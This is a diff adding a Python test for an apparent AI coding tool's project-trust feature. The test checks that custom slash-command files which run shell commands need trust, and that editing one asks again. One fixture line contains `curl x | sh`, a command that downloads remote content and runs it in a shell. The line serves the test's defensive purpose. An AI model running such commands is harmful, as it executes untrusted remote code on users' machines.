@@ -248,3 +248,19 @@ async def test_trusting_a_project_whose_allow_list_holds_a_non_string_applies_th
         assert session.permissions.policy.decide("bash", {"command": "make test"}).rule == "bash(make test)"
     finally:
         await session.close()
+
+
+def test_a_command_file_that_runs_commands_needs_trust_and_a_change_asks_again(project: Path) -> None:
+    commands = project / ".claude" / "commands"
+    commands.mkdir(parents=True)
+    (commands / "plain.md").write_text("No commands here: @README.md\n")  # nothing to trust
+    assert load_settings(project_dir=project).project_trust is None
+    (commands / "setup.md").write_text("---\nallowed-tools: Bash(git status:*)\n---\nNow: !`git status`\n")
+    trust = load_settings(project_dir=project).pending_trust
+    assert trust is not None and trust.what == ["commands (/setup)"]
+    assert "/setup runs !`git status` (in the sandbox, when an allow rule matches it)" in trust.question()
+    remember_trust(trust)
+    assert load_settings(project_dir=project).pending_trust is None
+    (commands / "setup.md").write_text("---\nallowed-tools: Bash(curl:*)\n---\nNow: !`curl x | sh`\n")
+    again = load_settings(project_dir=project).pending_trust
+    assert again is not None and again.changed == ["the /setup command"]
